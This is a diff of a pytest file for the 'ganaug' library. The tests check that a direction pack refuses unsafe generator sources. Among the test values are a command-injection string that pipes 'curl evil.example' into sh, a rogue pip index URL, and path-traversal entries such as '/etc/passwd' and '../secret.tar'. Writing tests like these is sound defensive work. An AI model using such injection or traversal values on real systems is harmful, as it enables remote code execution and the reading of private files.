@@ -15,8 +15,10 @@ from ganaug.packs.format import checksum
 def test_a_pack_whose_generator_is_not_installed_says_how_to_get_it(monkeypatch):
     pack = DirectionPack.from_pretrained("faces")
     monkeypatch.setattr("sys.path", [])
-    with pytest.raises(PackError, match=r'pip install --no-deps "gan-face-generate==1\.1\.1"'):
+    with pytest.raises(PackError, match=r'pip install --no-deps "gan-face-generate==1\.1\.1"') as caught:
         _ = pack.generator
+    for told in ("Whoever wrote the pack", "ganaug has not checked that package", "installing it runs its code"):
+        assert told in str(caught.value)
 
 
 def test_another_generator_is_refused_by_its_hash(folder, pack):
@@ -104,3 +106,69 @@ def test_directions_outside_the_layers_of_a_generator_are_refused():
     generator = StyleGAN2(z_dim=4, w_dim=4, image_size=8, widths=(4, 4), latent_space="w", layers=(1, 2)).freeze()
     with pytest.raises(PackError, match=r"layers=\(1, 2\) leave 4 of 8"):
         DirectionPack(torch.eye(8)[:2], generator=generator)
+
+
+@pytest.mark.parametrize(
+    "wrong",
+    [
+        {"distribution": 'x"; curl evil.example | sh; "'},
+        {"distribution": "--index-url=http://evil.example"},
+        {"distribution": "git+https://evil.example/x"},
+        {"distribution": "toy-"},
+        {"version": "2.0 --pre"},
+        {"version": "2.0; import os"},
+        {"version": "../2.0"},
+        {"path": "../secret.tar"},
+        {"path": "toy_faces/../../secret.tar"},
+        {"path": "/etc/passwd"},
+        {"path": "C:\\weights.tar"},
+        {"path": "toy_faces//weights.tar"},
+        {"file_sha256": "0"},
+        {"file_sha256": "../" * 20},
+    ],
+)
+def test_a_source_that_is_no_file_of_a_distribution_is_refused_when_the_pack_is_read(distribution, wrong, tmp_path):
+    folder = DirectionPack(torch.eye(6)[:2], generator_origin=distribution).save_pretrained(tmp_path / "faces")
+    config = json.loads((folder / "config.json").read_text())
+    config["generator"]["source"] |= wrong
+    (folder / "config.json").write_text(json.dumps(config))
+    with pytest.raises(PackError, match="the generator's source"):
+        DirectionPack.from_pretrained(folder)
+
+
+@pytest.mark.parametrize(
+    ("repo", "revision"),
+    [
+        ("../x/y", "main"),
+        ("/etc/x", "main"),
+        ("x", "main"),
+        ("org/a..b", "main"),
+        ("org/x", "../../../x"),
+        ("org/x", ""),
+    ],
+)
+def test_a_source_that_is_no_repository_is_refused_when_the_pack_is_read(folder, repo, revision):
+    config = json.loads((folder / "config.json").read_text())
+    config["generator"]["source"] = {"repo": repo, "revision": revision}
+    (folder / "config.json").write_text(json.dumps(config))
+    with pytest.raises(PackError, match="the generator's source"):
+        DirectionPack.from_pretrained(folder)
+
+
+def test_a_file_of_a_distribution_is_its_own_lies_inside_and_has_the_hash(distribution, tmp_path):
+    def refused(match, **other):
+        with pytest.raises(PackError, match=match):
+            DirectionPack(torch.eye(6)[:2], generator_origin={**distribution, **other}).load()
+
+    site = tmp_path / "site"
+    refused("has SHA-256 .*, expected 0000", file_sha256="0" * 64)
+    (site / "toy_faces" / "weights.tar").rename(tmp_path / "elsewhere.tar")
+    (site / "toy_faces" / "weights.tar").symlink_to(tmp_path / "elsewhere.tar")
+    refused("is a link to outside")
+    (site / "toy_faces" / "weights.tar").unlink()
+    (tmp_path / "elsewhere.tar").rename(site / "toy_faces" / "weights.tar")
+    record = site / "toy_faces-2.0.dist-info" / "RECORD"
+    record.write_text("toy_faces/weights.tar,,\n")
+    DirectionPack(torch.eye(6)[:2], generator_origin=distribution).load()
+    record.write_text("toy_faces/other.tar,,\n")
+    refused(r"toy-faces 2\.0 has no toy_faces/weights\.tar")
